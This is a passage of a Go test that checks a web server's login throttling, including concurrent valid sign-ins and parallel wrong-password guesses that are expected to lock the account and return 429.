	th.AccountLimit, th.AddressLimit = 2, 3
	const n = 8
	var mu sync.Mutex
	var open chan struct{} // closed to let the burst's hashes go on
	var want, started, hashes int
	release := func() {
		select {
		case <-open:
		default:
			close(open)
		}
	}
	s := newServer(t, db, web.Config{Accounts: web.AccountOptions{
		Throttle: th, HashSlots: n, HashWait: time.Hour,
		OnHash: func() func() {
			mu.Lock()
			hashes++
			if started++; started == want {
				release()
			}
			wait := open
			mu.Unlock()
			<-wait
			return func() {}
		}}}, io.Discard)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.Handler().ServeHTTP(w, r)
		mu.Lock()
		release()
		mu.Unlock()
	}))
	defer srv.Close()
	a := &app{t: t, db: db, srv: srv, web: s}
	hash := auth.HashPassword(goodPassword)
	for i := range n {
		if _, err := db.AddUser(context.Background(), store.User{Email: fmt.Sprintf("staff%d@example.nhs.uk", i), Role: auth.Analyst, PasswordHash: hash}); err != nil {
			t.Fatal(err)
		}
	}
	burst := func(together int, email func(i int) string, password string) []int {
		mu.Lock()
		open, want, started = make(chan struct{}), together, 0
		mu.Unlock()
		var wg sync.WaitGroup
		statuses := make([]int, n)
		for i := range n {
			wg.Add(1)
			go func() {
				defer wg.Done()
				res, _ := a.post("/login", url.Values{"email": {email(i)}, "password": {password}})
				statuses[i] = res.StatusCode
			}()
		}
		wg.Wait()
		return statuses
	}
	for i, s := range burst(n, func(i int) string { return fmt.Sprintf("staff%d@example.nhs.uk", i) }, goodPassword) {
		if s != http.StatusSeeOther {
			t.Errorf("staff behind one address: sign-in %d: %d, want 303", i, s)
		}
	}
	for i, s := range burst(th.AccountLimit, func(int) string { return "staff0@example.nhs.uk" }, goodPassword) {
		if s != http.StatusSeeOther {
			t.Errorf("one account, many times: sign-in %d: %d, want 303", i, s)
		}
	}
	// Guesses sent in parallel: only AccountLimit are checked, and they
	// lock the account; the rest are refused unchecked.
	mu.Lock()
	hashes = 0
	mu.Unlock()
	counts := map[int]int{}
	for _, s := range burst(th.AccountLimit, func(int) string { return "staff1@example.nhs.uk" }, "wrong guess in parallel") {
		counts[s]++
	}
	if hashes != th.AccountLimit || counts[http.StatusUnauthorized]+counts[http.StatusTooManyRequests] != n || counts[http.StatusTooManyRequests] < n-th.AccountLimit {
		t.Errorf("parallel guesses: %d checked, statuses %v; want %d checked, the rest 429", hashes, counts, th.AccountLimit)
	}
}
